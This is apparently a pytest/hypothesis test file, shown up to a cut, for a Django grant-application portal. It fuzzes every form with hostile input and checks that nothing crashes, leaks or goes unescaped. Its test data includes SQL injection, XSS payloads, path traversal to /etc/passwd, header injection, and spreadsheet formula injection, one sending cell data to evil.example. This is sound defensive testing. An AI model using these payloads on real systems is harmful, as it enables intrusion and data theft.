"""Hostile input to every form (issue 7): hypothesis posts random and hostile values to each form
the portal's users post, as the role that may post it.

Every example runs in a savepoint that is rolled back, so each starts from the same fixtures. The
properties, per example:

- the answer is never a server error (the test client raises the view's exception, shown with
  the example that caused it);
- a refusal (no redirect) leaves the database as it was: every table's row count and a hash of
  its rows are compared, apart from sessions, the login-lockout log and (for the two-step login)
  the counters of wrong codes;
- a save stores exactly what the form cleaned (no truncation, nothing added or dropped);
- hostile text comes back escaped on the page that answers, and on the page after a redirect.

Values are drawn per field from a valid strategy (which includes injections, control characters,
right-to-left marks and emoji that a text field must accept) and, for up to three fields per
example, from a hostile one: malformed or out-of-range values, NUL characters, texts beyond the
field's length, the field left out or sent twice, and ids of other verbanden' objects. Ids of
objects made by the fixtures are written as placeholders (`§name`) and filled in per test, so an
example found once can be kept as an explicit `@example`.

The test's transaction never commits: what runs after a commit (e-mails) is not exercised here.

`FORMULIEREN` maps every form class of `applications` to its URL, the role that posts it and its
tests here; `test_every_form_has_a_hostile_input_test` fails when a new form is missing.
"""

from __future__ import annotations

import datetime
import hashlib
import importlib
import importlib.util
import operator
import pkgutil
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from decimal import Decimal
from functools import cache
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode, urlsplit

import pytest
from django import forms as django_forms
from django.contrib.auth.tokens import default_token_generator
from django.core import mail
from django.db import connection, transaction
from django.http import QueryDict
from django.test import Client
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_static.models import StaticDevice, StaticToken
from django_otp.plugins.otp_totp.models import TOTPDevice
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

import applications
from applications.aanvragen.forms import (
    ActieForm,
    DupliceerForm,
    IntrekkenForm,
    TekstenForm,
    VerbandContactForm,
    VerlengingForm,
)
from applications.aanvragen.models import Aanvraag, Actie, Bijlage, Statuswijziging, Verlenging
from applications.aanvragen.services import ACTIE_FIELDS
from applications.aanvragen.statuses import AanvraagStatus
from applications.accounts.constants import Rol
from applications.accounts.models import User
from applications.beheer.gebruiker_views import UitnodigingForm
from applications.beheer.models import Uitnodiging
from applications.beheer.services import hash_token
from applications.beheer.views import EindeForm, LidToevoegenForm, TrekkerForm
from applications.beoordeling.constants import Advies
from applications.beoordeling.forms import (
    AntwoordForm,
    BeoordelingForm,
    BeslissingForm,
    NotitieForm,
    TakeForm,
    VraagForm,
    WijzigingenForm,
    bedragen_uit,
)
from applications.beoordeling.models import Beoordeling, Beslissing, Notitie, Vraag
from applications.beoordeling.services import vraag_stellen
from applications.besturen.models import Lidmaatschap, LokaalBestuur, Regieverband, Trekkerwissel
from applications.oproepen.models import Oproep

from .aanvraag_helpers import PASSWORD, fill_everything, pdf_bytes
from .conftest import client_for, totp_code
from .factories import (
    AanvraagFactory,
    ActieFactory,
    LidmaatschapFactory,
    LokaalBestuurFactory,
    OproepFactory,
    UserFactory,
)

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as Antwoord

pytestmark = pytest.mark.django_db


def _hypothesis(max_examples: int) -> Any:
    """Settings for one property: a fixed sequence of examples (the same in every run and on
    CI), no example database in the repository, and the fixtures shared by the examples (each
    runs in its own rolled-back savepoint)."""
    return hypothesis_settings(
        max_examples=max_examples,
        deadline=None,
        derandomize=True,
        database=None,
        print_blob=False,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
            HealthCheck.filter_too_much,
        ],
    )


# Sized so that the file runs in about a minute on two cores.
VEEL = _hypothesis(20)
WEINIG = _hypothesis(10)  # a decision renders its letter (WeasyPrint)
PDF_WEINIG = _hypothesis(5)  # submitting renders and seals the whole aanvraag


# --- Which forms there are, where they are posted and by whom -----------------------------------


@dataclass(frozen=True)
class Formulier:
    url: str
    rol: str
    tests: tuple[str, ...]


FORMULIEREN: dict[str, Formulier] = {
    "applications.accounts.forms.EmailAuthenticationForm": Formulier(
        "/accounts/login/", "anoniem", ("test_login_form",)
    ),
    "applications.core.forms.VersieForm": Formulier(
        "(basis van VerbandContactForm en TekstenForm: het veld versie)",
        "regisseur",
        ("test_aanvraag_text_sections",),
    ),
    "applications.aanvragen.forms.VerbandContactForm": Formulier(
        "/aanvragen/<pk>/verband/", "regisseur", ("test_aanvraag_text_sections",)
    ),
    "applications.aanvragen.forms.TekstenForm": Formulier(
        "/aanvragen/<pk>/teksten/ en /aanvragen/<pk>/autosave/",
        "regisseur",
        ("test_aanvraag_text_sections", "test_autosave"),
    ),
    "applications.aanvragen.forms.ActieForm": Formulier(
        "/aanvragen/<pk>/acties/nieuw/ en /aanvragen/<pk>/acties/<actie_pk>/",
        "regisseur",
        ("test_actie_form_new", "test_actie_form_edit"),
    ),
    "applications.aanvragen.forms.DupliceerForm": Formulier(
        "/aanvragen/<pk>/acties/<actie_pk>/dupliceren/", "regisseur", ("test_actie_duplicate",)
    ),
    "applications.aanvragen.forms.BijlageForm": Formulier(
        "/aanvragen/<pk>/bijlagen/", "regisseur", ("test_bijlage_form",)
    ),
    "applications.aanvragen.forms.VerifieerForm": Formulier(
        "/aanvragen/verifieer/", "elke aangemelde gebruiker", ("test_pdf_verify_form",)
    ),
    "applications.beoordeling.forms.TakeForm": Formulier(
        "/beoordeling/<pk>/nemen/", "beoordelaar", ("test_take_form",)
    ),
    "applications.beoordeling.forms.VraagForm": Formulier(
        "/beoordeling/<pk>/vraag/", "beoordelaar", ("test_vraag_and_notitie_forms",)
    ),
    "applications.beoordeling.forms.NotitieForm": Formulier(
        "/beoordeling/<pk>/notitie/", "beoordelaar", ("test_vraag_and_notitie_forms",)
    ),
    "applications.beoordeling.forms.AntwoordForm": Formulier(
        "/aanvragen/<pk>/vragen/<vraag_pk>/antwoord/", "regisseur", ("test_antwoord_form",)
    ),
    "applications.beoordeling.forms.WijzigingenForm": Formulier(
        "/beoordeling/<pk>/wijzigingen/", "beoordelaar", ("test_wijzigingen_form",)
    ),
    "applications.aanvragen.forms.VerlengingForm": Formulier(
        "/beoordeling/<pk>/uitstel/", "beoordelaar", ("test_uitstel_form",)
    ),
    "applications.aanvragen.forms.IntrekkenForm": Formulier(
        "/aanvragen/<pk>/intrekken/", "regisseur", ("test_intrekken_form",)
    ),
    "applications.beoordeling.forms.BeoordelingForm": Formulier(
        "/beoordeling/<pk>/mijn-beoordeling/", "beoordelaar", ("test_beoordeling_form",)
    ),
    "applications.beoordeling.forms.BeslissingForm": Formulier(
        "/beoordeling/<pk>/beslissing/", "beoordelaar", ("test_beslissing_form",)
    ),
    "applications.beheer.gebruiker_views.UitnodigingForm": Formulier(
        "/beheer/gebruikers/uitnodigen/", "beheerder", ("test_uitnodiging_form",)
    ),
    "applications.beheer.views.LidToevoegenForm": Formulier(
        "/beheer/regieverbanden/<pk>/leden/toevoegen/", "beheerder", ("test_lid_toevoegen_form",)
    ),
    "applications.beheer.views.EindeForm": Formulier(
        "/beheer/regieverbanden/<pk>/leden/beeindigen/", "beheerder", ("test_lid_einde_form",)
    ),
    "applications.beheer.views.TrekkerForm": Formulier(
        "/beheer/regieverbanden/<pk>/trekker/", "beheerder", ("test_trekker_form",)
    ),
    "applications.accounts.tweestaps.CodeForm": Formulier(
        "/accounts/tweestaps/ en /accounts/tweestaps/instellen/",
        "beoordelaar of beheerder na het wachtwoord",
        ("test_tweestaps_code_form", "test_tweestaps_setup_form"),
    ),
    "applications.accounts.forms.BeheerUserCreationForm": Formulier(
        "/beheer/accounts/user/add/", "beheerder", ("test_admin_user_forms",)
    ),
    "applications.accounts.forms.BeheerUserChangeForm": Formulier(
        "/beheer/accounts/user/<pk>/change/", "beheerder", ("test_admin_user_forms",)
    ),
    # Django's own forms on the portal's pages.
    "django.contrib.auth.forms.SetPasswordForm": Formulier(
        "/accounts/uitnodiging/<token>/ en /accounts/reset/<uidb64>/set-password/",
        "wie de link heeft",
        ("test_uitnodiging_aanvaarden_form", "test_password_reset_forms"),
    ),
    "django.contrib.auth.forms.PasswordResetForm": Formulier(
        "/accounts/password_reset/", "anoniem", ("test_password_reset_forms",)
    ),
    "django.contrib.auth.forms.PasswordChangeForm": Formulier(
        "/accounts/password_change/", "elke aangemelde gebruiker", ("test_password_change_form",)
    ),
    # Posts without a form class: their fields are read in the view.
    "(geen formulier) aanvraag_start": Formulier(
        "/aanvragen/start/", "regisseur", ("test_aanvraag_start",)
    ),
    "(geen formulier) actie_verwijder": Formulier(
        "/aanvragen/<pk>/acties/<actie_pk>/verwijderen/", "regisseur", ("test_actie_delete",)
    ),
    "(geen formulier) aanvraag_indienen": Formulier(
        "/aanvragen/<pk>/indienen/", "regisseur", ("test_indienen_with_hostile_content",)
    ),
}


def _form_classes_of_the_portal() -> set[str]:
    """Every form class defined in a module of `applications` (those that mention forms)."""
    found: set[str] = set()
    for module_info in pkgutil.walk_packages(applications.__path__, "applications."):
        if ".migrations" in module_info.name or module_info.ispkg:
            continue
        spec = importlib.util.find_spec(module_info.name)
        if spec is None or spec.origin is None:
            continue
        with open(spec.origin, encoding="utf-8") as source:
            if "Form" not in source.read():
                continue
        module = importlib.import_module(module_info.name)
        for name, value in vars(module).items():
            if (
                isinstance(value, type)
                and issubclass(value, django_forms.BaseForm)
                and value.__module__ == module.__name__
            ):
                found.add(f"{module.__name__}.{name}")
    return found


def test_every_form_has_a_hostile_input_test() -> None:
    found = _form_classes_of_the_portal()
    assert "applications.aanvragen.forms.ActieForm" in found  # the search itself works
    missing = sorted(found - FORMULIEREN.keys())
    assert not missing, (
        f"forms without an entry in FORMULIEREN (add a hostile-input test): {missing}"
    )
    for naam, formulier in FORMULIEREN.items():
        for test in formulier.tests:
            assert callable(globals().get(test)), f"{naam}: no test called {test}"


# --- Strategies ---------------------------------------------------------------------------------

INJECTIES = (
    "'; DROP TABLE aanvragen_aanvraag; --",
    '" OR "1"="1',
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    '=HYPERLINK("http://evil.example/?d="&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;1)",
    "@SUM(1)",
    "-2+3",
    "{{ request }}{% debug %}",
    "%(naam)s %s {0} %n",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "\u202egnp.exe",
    "\u200f\u200e\u061c\u2066",
    "\U0001f4b6\U0001f1e7\U0001f1ea\U0001f469\U0001f3fd\u200d\U0001f4bb",
    "Z\u0337a\u0334l\u0336g\u0335o\u0338",
    "\ufeff\u2028\u2029\u0085",
    "\x1b[31m\x07\x08\x7f",
    "\r\n\r\nSet-Cookie: x=1",
    "\u00dcn\u00efc\u00f6d\u00e9 caf\u00e9 \u2013 \u201cquotes\u201d \u20ac",
)
# What an unescaped injection leaves in the HTML; the page itself never contains these.
RAUW = ("<script>alert(", "<img src=x onerror", "<svg onload=")
SPECIAAL = (
    "\x01\x07\x08\t\n\x0b\x0c\r\x1b\x1f\x7f\x85\xa0\xad\u200b\u200d\u200e\u200f\u202a\u202e"
    "\u2028\u2029\u2066\u3000\ufeff\ufffd\U0001f4b6"
)
# Everything HTTP can carry (UTF-8: no lone surrogates).
KARAKTER = st.one_of(
    st.characters(codec="utf-8", exclude_characters="\x00"),
    st.sampled_from(SPECIAAL),
)


def _tekst(max_len: int | None = None) -> st.SearchStrategy[str]:
    """Text a field must accept (no NUL): random, injections, mixes, and long repetitions."""
    kort = st.text(KARAKTER, max_size=30)
    gemengd = st.lists(st.one_of(kort, st.sampled_from(INJECTIES)), min_size=1, max_size=4).map(
        "".join
    )
    lang = st.builds(
        operator.mul, st.sampled_from((*INJECTIES[:6], "a", "é ", "\u202e")), st.integers(1, 2000)
    )
    tekst = st.one_of(gemengd, lang)
    return tekst if max_len is None else tekst.map(lambda t: t[:max_len])


def _foute_tekst(max_len: int | None = None) -> st.SearchStrategy[str]:
    """Text a field must refuse, or leave empty: with NUL, blank, or longer than allowed."""
    met_nul = st.builds(lambda a, b: a + "\x00" + b, _tekst(50), _tekst(50))
    leeg = st.sampled_from(("", " ", "\t\r\n ", "\u3000", "\x00"))
    if max_len is None:
        return st.one_of(met_nul, leeg)
    te_lang = st.builds(lambda t, n: (t or "x") * (max_len + n), _tekst(20), st.integers(1, 300))
    return st.one_of(met_nul, leeg, te_lang.map(lambda t: t[: max_len * 4 + 400]))


RARE_GETALLEN = (
    "",
    " ",
    "0",
    "-0",
    "-1",
    "+1",
    "1.5",
    "1,5",
    "1e3",
    "1E-2",
    "0x1F",
    "1_000",
    "\u0661\u0662\u0663",
    "\uff11\uff12",
    "NaN",
    "Infinity",
    "-inf",
    "9" * 30,
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "99999999999999999999",
    "3.0",
    "--1",
    "1 000",
    "€ 12,50",
    "12.500,50",
    "12.50.50",
    ",5",
    "5,",
    "0,001",
    "-12.500,00",
    "1.234.567,891",
    "10000000000",
    "9999999999,99",
    "1e309",
    "1" + "0" * 400,
    "\u0661\u0662.\u0665\u0660\u0660,\u0665",
)
GETAL = st.one_of(
    st.sampled_from(RARE_GETALLEN),
    st.integers(-(10**24), 10**24).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    _tekst(20),
)


def _euro(bedrag: Decimal, stijl: str) -> str:
    plain = f"{bedrag:.2f}"
    if stijl == "komma":
        return plain.replace(".", ",")
    if stijl == "nl":
        return f"{bedrag:,.2f}".replace(",", " ").replace(".", ",").replace(" ", ".")
    if stijl == "euro":
        return f"€ {plain.replace('.', ',')}"
    return plain


def _bedrag(max_value: str) -> st.SearchStrategy[str]:
    return st.builds(
        _euro,
        st.decimals(min_value=0, max_value=Decimal(max_value), places=2),
        st.sampled_from(("plain", "komma", "nl", "euro")),
    )


BEDRAG = st.one_of(_bedrag("100000"), _bedrag("9999999999.99"))

RARE_DATUMS = (
    "0001-01-01",
    "9999-12-31",
    "31/12/9999",
    "01/01/0001",
    "2030-02-29",
    "2028-02-29",
    "2030-02-30",
    "2030-13-01",
    "2030-00-10",
    "00/00/0000",
    "31/04/2030",
    "2030-1-1",
    "1/1/30",
    "2030-01-01T10:00",
    "2030/01/01",
    "+2030-01-01",
    "\uff12\uff10\uff13\uff10-\uff10\uff11-\uff10\uff11",
    "\u0662\u0660\u0663\u0660-\u0660\u0661-\u0660\u0661",
    "10000-01-01",
    "-2030-01-01",
    "tomorrow",
    "",
)
RARE_MOMENTEN = (
    "9999-12-31T23:59",
    "9999-12-31T23:59:59",
    "9999-12-31T23:59:59-14:00",
    "9999-12-31T23:00+14:00",
    "0001-01-01T00:00",
    "0001-01-01T00:00:00+14:00",
    "31/12/9999 23:59",
    "2031-03-30T02:30",  # does not exist in Brussels (summer time starts)
    "2031-10-26T02:30",  # exists twice in Brussels (summer time ends)
    "2030-02-30T10:00",
    "2030-01-01T24:00",
    "2030-01-01T23:60",
    "2030-01-01T23:59:60",
    "2030-01-01",
    "2035-01-01T10:00Z",
    "2035-01-01T10:00:00.999999+01:00",
    "2035-01-01 10:00",
    "10/10/2035",
    "",
)


def _datum(min_jaar: int, max_jaar: int) -> st.SearchStrategy[str]:
    return st.dates(datetime.date(min_jaar, 1, 1), datetime.date(max_jaar, 12, 31)).flatmap(
        lambda d: st.sampled_from((d.isoformat(), d.strftime("%d/%m/%Y"), d.strftime("%d-%m-%Y")))
    )


def _moment(min_jaar: int, max_jaar: int) -> st.SearchStrategy[str]:
    return st.datetimes(
        datetime.datetime(min_jaar, 1, 1), datetime.datetime(max_jaar, 12, 31, 23, 59)
    ).flatmap(
        lambda d: st.sampled_from(
            (
                d.strftime("%Y-%m-%dT%H:%M"),
                d.strftime("%Y-%m-%dT%H:%M:%S"),
                d.strftime("%d/%m/%Y %H:%M"),
            )
        )
    )


FOUTE_DATUM = st.one_of(st.sampled_from(RARE_DATUMS), _tekst(20))
FOUT_MOMENT = st.one_of(st.sampled_from(RARE_MOMENTEN + RARE_DATUMS), _tekst(20))
RARE_EMAILS = (
    "a@b",
    "@gemeente.be",
    "naam@",
    "naam@@gemeente.be",
    "naam@gemeente..be",
    "naam@-gemeente.be",
    "naam @gemeente.be",
    "naam@gemeente.be\nBcc: x@evil.example",
    "'; DROP TABLE accounts_user; --@x.be",
    "<script>alert('xss')</script>@x.be",
    '"quoted"@gemeente.be',
    "naam@xn--bcher-kva.example",
    "naam@bücher.example",
    "ALICE@EXAMPLE.ORG",
    " alice@example.org ",
    "a" * 65 + "@gemeente.be",
    "naam@" + "a" * 64 + ".be",
    "naam@" + ".".join(["a" * 63] * 5) + ".be",
)
EMAIL = st.one_of(
    st.emails().map(lambda e: e[:300]),
    st.sampled_from(("naam@gemeente.be", "x.y+z@ocmw.example.be", "Naam@Gemeente.BE")),
)
FOUT_EMAIL = st.one_of(st.sampled_from(RARE_EMAILS), _foute_tekst(254), _tekst(40))
WACHTWOORD = st.one_of(
    st.sampled_from(("Zonnige-Kade-4821", "Lange zin met spaties en één ü", "pA55w0rd!" * 3)),
    _tekst(200).map(lambda t: "Zk9!" + t),
)
FOUT_WACHTWOORD = st.one_of(
    st.sampled_from(("", "12345678", "password", "kort", "alice@example.org", "Alice")),
    _foute_tekst(),
    st.builds(operator.mul, st.sampled_from(("ab", "\U0001f4b6")), st.integers(1000, 3000)),
)


@dataclass(frozen=True)
class Veld:
    """How one field is filled: `geldig` mostly, `fout` when the example breaks the field."""

    geldig: st.SearchStrategy[Any]
    fout: st.SearchStrategy[Any]


def tekstveld(max_len: int | None = None) -> Veld:
    return Veld(_tekst(max_len), _foute_tekst(max_len))


def keuze(geldig: tuple[str, ...], fout: tuple[str, ...] = ()) -> Veld:
    """A choice: valid values (or placeholders `§name`), and the wrong ones besides any text."""
    return Veld(st.sampled_from(geldig), st.one_of(st.sampled_from((*fout, "0", "-1")), GETAL))


# An amount of a review or decision: within the call's yearly budget, or not.
BEDRAG_VAN_OPROEP = Veld(_bedrag("1000000"), st.one_of(GETAL, _bedrag("9999999999.99")))

EXTRA_NAAM = st.from_regex(r"[a-z][a-z0-9_\-]{0,11}", fullmatch=True)


@st.composite
def formulier(
    draw: st.DrawFn, velden: Mapping[str, Veld], prefix: str = "", extra: bool = True
) -> dict[str, Any]:
    """A POST: every field valid, or up to three broken ones (wrong, left out or sent two or
    three times), and sometimes unknown fields besides."""
    namen = sorted(velden)
    # About half the examples break no field: they reach the save with hostile valid text.
    kapot = draw(
        st.one_of(st.just(set()), st.sets(st.sampled_from(namen), max_size=min(3, len(namen))))
    )
    data: dict[str, Any] = {}
    for naam in namen:
        veld = velden[naam]
        if naam not in kapot:
            data[prefix + naam] = draw(veld.geldig)
            continue
        hoe = draw(st.sampled_from(("fout", "weg", "dubbel")))
        if hoe == "fout":
            data[prefix + naam] = draw(veld.fout)
        elif hoe == "dubbel":
            waarden = draw(st.lists(st.one_of(veld.geldig, veld.fout), min_size=2, max_size=3))
            data[prefix + naam] = [
                w for waarde in waarden for w in (waarde if isinstance(waarde, list) else [waarde])
            ]
    if extra:
        extra_waarde = st.one_of(_tekst(40), _foute_tekst())
        for naam, waarde in draw(st.dictionaries(EXTRA_NAAM, extra_waarde, max_size=2)).items():
            data.setdefault(naam, waarde)
    return data


ENCODING = st.sampled_from(("multipart", "urlencoded"))


# --- Posting, comparing the database, reading the answer ----------------------------------------

# Changed by any request (the session) or by a failed login (the lockout log), never compared.
NOOIT_VERGELEKEN = frozenset(
    {
        "django_session",
        "django_migrations",
        "axes_accessattempt",
        "axes_accessattemptexpiration",
        "axes_accessfailurelog",
        "axes_accesslog",
    }
)


@cache
def _tabellen() -> tuple[str, ...]:
    with connection.cursor() as cursor:
        return tuple(sorted(connection.introspection.table_names(cursor)))


def momentopname(negeer: frozenset[str] = frozenset()) -> dict[str, str]:
    """Per table: its row count and an MD5 of all its rows, in one query."""
    tabellen = [t for t in _tabellen() if t not in NOOIT_VERGELEKEN | negeer]
    qn = connection.ops.quote_name
    sql = " UNION ALL ".join(
        f"SELECT %s::text, count(*) || ':' || "
        f"coalesce(md5(string_agg(r::text, '|' ORDER BY r::text)), '') FROM {qn(t)} r"
        for t in tabellen
    )
    with connection.cursor() as cursor:
        cursor.execute(sql, tabellen)
        return dict(cursor.fetchall())


@contextmanager
def voorbeeld() -> Iterator[None]:
    """One example in a savepoint that is rolled back afterwards."""
    if hasattr(mail, "outbox"):
        mail.outbox.clear()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def invullen(waarde: Any, ids: Mapping[str, str]) -> Any:
    """Placeholders `§name` replaced by the fixture's value (an id, a code)."""
    if isinstance(waarde, list):
        return [invullen(w, ids) for w in waarde]
    if isinstance(waarde, dict):
        return {k: invullen(v, ids) for k, v in waarde.items()}
    if isinstance(waarde, str):
        return ids.get(waarde, waarde)
    return waarde


def als_querydict(data: Mapping[str, Any]) -> QueryDict:
    """The POST as the view reads it."""
    result = QueryDict(mutable=True)
    for naam, waarde in data.items():
        if isinstance(waarde, list):
            result.setlist(naam, waarde)
        else:
            result[naam] = waarde
    return result


def laatste(data: Mapping[str, Any], naam: str) -> str:
    """A field as the view reads it: the last value when it was sent several times."""
    return str(als_querydict(data).get(naam, ""))


def _teksten(data: Mapping[str, Any]) -> list[str]:
    teksten: list[str] = []
    for naam, waarde in data.items():
        teksten.append(naam)
        teksten.extend(w for w in (waarde if isinstance(waarde, list) else [waarde]))
    return [t for t in teksten if isinstance(t, str)]


def ontsnapt(response: Antwoord, data: Mapping[str, Any]) -> None:
    """No injection from the POST appears unescaped in an HTML answer."""
    if not response.get("Content-Type", "").startswith("text/html"):
        return
    html = response.content.decode("utf-8", errors="replace")
    for marker in RAUW:
        if any(marker in tekst for tekst in _teksten(data)):
            assert marker not in html, f"unescaped {marker!r} in the page"


@dataclass
class Uitkomst:
    response: Antwoord
    veranderd: set[str]
    gelukt: bool


def is_redirect(response: Antwoord, veranderd: set[str]) -> bool:
    """A save: a redirect, but not to the login page (a lost session)."""
    return response.status_code in (301, 302, 303) and not response["Location"].startswith(
        "/accounts/login/"
    )


GRENS = "hostile-input-grens-7f3a"


def multipart(data: Mapping[str, Any], bestanden: Mapping[str, tuple[str, bytes]]) -> bytes:
    """A multipart body written by hand: the file name goes as is (the test client would
    keep only its base name, and refuses an empty one)."""
    delen = []
    for naam, waarde in data.items():
        for tekst in waarde if isinstance(waarde, list) else [waarde]:
            kop = f'--{GRENS}\r\nContent-Disposition: form-data; name="{naam}"\r\n\r\n'
            delen.append(kop.encode() + tekst.encode() + b"\r\n")
    for naam, (bestandsnaam, inhoud) in bestanden.items():
        kop = (
            f'--{GRENS}\r\nContent-Disposition: form-data; name="{naam}"; '
            f'filename="{bestandsnaam}"\r\nContent-Type: application/pdf\r\n\r\n'
        )
        delen.append(kop.encode() + inhoud + b"\r\n")
    delen.append(f"--{GRENS}--\r\n".encode())
    return b"".join(delen)


def post(
    client: Client,
    pad: str,
    data: Mapping[str, Any],
    encoding: str = "multipart",
    *,
    bestanden: Mapping[str, tuple[str, bytes]] | None = None,
    negeer: frozenset[str] = frozenset(),
    gelukt: Callable[[Antwoord, set[str]], bool] = is_redirect,
) -> Uitkomst:
    """POST, and check the common properties: no server error; a refusal changes nothing in the
    database; the answer, and after a redirect the next page, show injections escaped."""
    voor = momentopname(negeer)
    if bestanden is not None:
        response = client.post(
            pad,
            multipart(data, bestanden),
            content_type=f"multipart/form-data; boundary={GRENS}",
        )
    elif encoding == "urlencoded":
        response = client.post(
            pad, urlencode(data, doseq=True), content_type="application/x-www-form-urlencoded"
        )
    else:
        response = client.post(pad, data)
    assert response.status_code < 500, response.status_code
    na = momentopname(negeer)
    veranderd = {tabel for tabel, rij in voor.items() if na.get(tabel) != rij}
    ok = gelukt(response, veranderd)
    if not ok:
        assert not veranderd, f"refused ({response.status_code}) yet changed {sorted(veranderd)}"
    ontsnapt(response, data)
    if response.status_code in (301, 302, 303):
        adres = urlsplit(response["Location"])
        volgende = client.get(adres.path + (f"?{adres.query}" if adres.query else ""))
        assert volgende.status_code < 500, volgende.status_code
        ontsnapt(volgende, data)
    return Uitkomst(response, veranderd, ok)


def alleen(veranderd: set[str], *tabellen: str) -> None:
    """A save changed only these tables."""
    assert veranderd <= set(tabellen), sorted(veranderd - set(tabellen))


def _ids(**objecten: Any) -> dict[str, str]:
    return {f"§{naam}": str(getattr(obj, "pk", obj)) for naam, obj in objecten.items()}


# --- Fixtures -------------------------------------------------------------------------------------


@pytest.fixture
def als_regisseur(regisseur: User) -> Client:
    return client_for(regisseur)


@pytest.fixture
def als_beoordelaar(beoordelaar: User) -> Client:
    return client_for(beoordelaar)


@pytest.fixture
def als_beheerder(beheerder: User) -> Client:
    return client_for(beheerder)


@pytest.fixture
def andere_oproep(db: None) -> Oproep:
    """A second open call: its priorities and attachment types belong to no test aanvraag."""
    return OproepFactory.create(slug="andere-oproep", eerste_jaar=2031, laatste_jaar=2033)


@pytest.fixture
def vreemde_aanvraag(ander_verband: Regieverband, oproep: Oproep) -> Aanvraag:
    return AanvraagFactory.create(regieverband=ander_verband, oproep=oproep)


@pytest.fixture
def vreemde_actie(vreemde_aanvraag: Aanvraag) -> Actie:
    return ActieFactory.create(aanvraag=vreemde_aanvraag)


@pytest.fixture
def actie(aanvraag: Aanvraag) -> Actie:
    return ActieFactory.create(aanvraag=aanvraag, jaar=2030)


@pytest.fixture
def tweede_beoordelaar(db: None) -> User:
    return UserFactory.create(beoordelaar=True, email="erik@example.org")


@pytest.fixture
def in_behandeling(verband: Regieverband, oproep: Oproep, beoordelaar: User) -> Aanvraag:
    return AanvraagFactory.create(
        regieverband=verband,
        oproep=oproep,
        in_behandeling=True,
        ingediend_op=oproep.deadline - datetime.timedelta(days=1),
        behandelaar=beoordelaar,
    )


@pytest.fixture
def vreemd_bestuur(db: None) -> LokaalBestuur:
    return LokaalBestuurFactory.create(nis_code="99001", naam="Verzonnen Vreemdgem")


# --- The aanvraag, section by section (regisseur) -----------------------------------------------

VERSIE = keuze(("1",), ("2", "0", "-1", "2147483648", "1.0", " 1 ", "+1", "\u0661"))
TEKST_SECTIES = {
    "verband": (
        VerbandContactForm,
        {
            "versie": VERSIE,
            "contact_naam": tekstveld(200),
            "contact_functie": tekstveld(200),
            "contact_email": Veld(EMAIL, FOUT_EMAIL),
            "contact_telefoon": tekstveld(50),
        },
    ),
    "teksten": (
        TekstenForm,
        {"versie": VERSIE, "omgevingsanalyse": tekstveld(), "visie": tekstveld()},
    ),
}


@pytest.mark.parametrize("sectie", sorted(TEKST_SECTIES))
@VEEL
@given(
    data=st.data(),
    encoding=ENCODING,
)
def test_aanvraag_text_sections(
    sectie, data, encoding, aanvraag, regisseur, vreemde_aanvraag, als_regisseur
):
    form_class, velden = TEKST_SECTIES[sectie]
    invoer = data.draw(formulier(velden), label="post")
    pk = data.draw(st.sampled_from((aanvraag.pk, vreemde_aanvraag.pk)), label="aanvraag")
    with voorbeeld():
        uitkomst = post(als_regisseur, f"/aanvragen/{pk}/{sectie}/", invoer, encoding)
        if pk == vreemde_aanvraag.pk:
            assert uitkomst.response.status_code == 404
            return
        if uitkomst.gelukt:
            alleen(uitkomst.veranderd, "aanvragen_aanvraag")
            form = form_class(als_querydict(invoer))
            assert form.is_valid(), form.errors
            opgeslagen = Aanvraag.objects.get(pk=aanvraag.pk)
            for naam in velden:
                if naam != "versie":
                    assert getattr(opgeslagen, naam) == form.cleaned_data[naam], naam


AUTOSAVE = {
    "veld": keuze(
        ("omgevingsanalyse", "visie"), ("contact_naam", "status", "versie", "regieverband")
    ),
    "versie": VERSIE,
    "waarde": tekstveld(),
}


@VEEL
@given(invoer=formulier(AUTOSAVE), encoding=ENCODING)
# Found: the autosave skipped the form, and PostgreSQL refuses NUL in text (a server error).
@example(invoer={"veld": "visie", "versie": "1", "waarde": "\x00"}, encoding="multipart")
def test_autosave(invoer, encoding, aanvraag, regisseur, als_regisseur):
    with voorbeeld():
        uitkomst = post(
            als_regisseur,
            f"/aanvragen/{aanvraag.pk}/autosave/",
            invoer,
            encoding,
            gelukt=lambda response, _veranderd: response.status_code == 200,
        )
        if uitkomst.gelukt:
            assert uitkomst.response.json()["ok"] is True
            alleen(uitkomst.veranderd, "aanvragen_aanvraag")
            veld = laatste(invoer, "veld")
            verwacht = TekstenForm.base_fields[veld].clean(laatste(invoer, "waarde"))
            assert getattr(Aanvraag.objects.get(pk=aanvraag.pk), veld) == verwacht


def _actie_velden(versie: Veld) -> dict[str, Veld]:
    return {
        "versie": versie,
        "prioriteit": keuze(("§prioriteit1", "§prioriteit4"), ("§vreemde_prioriteit",)),
        "jaar": keuze(("2030", "2031", "2032"), ("2029", "2033", "1", "\u0662\u0660\u0663\u0660")),
        "titel": tekstveld(200),
        "beschrijving": tekstveld(),
        "doelgroep": tekstveld(300),
        "verwacht_resultaat": tekstveld(),
        "indicator": tekstveld(300),
        "partners": tekstveld(300),
        "budget": Veld(BEDRAG, GETAL),
    }


def _actie_ids(aanvraag: Aanvraag, andere_oproep: Oproep) -> dict[str, str]:
    prioriteiten = list(aanvraag.oproep.prioriteiten.order_by("volgorde"))
    return _ids(
        prioriteit1=prioriteiten[0],
        prioriteit4=prioriteiten[-1],
        vreemde_prioriteit=andere_oproep.prioriteiten.first(),
    )


def _assert_actie_is_cleaned_input(actie: Actie, invoer: dict[str, Any], oproep: Oproep) -> None:
    form = ActieForm(als_querydict(invoer), oproep=oproep)
    assert form.is_valid(), form.errors
    for naam in ACTIE_FIELDS:
        assert getattr(actie, naam) == form.cleaned_data[naam], naam


@VEEL
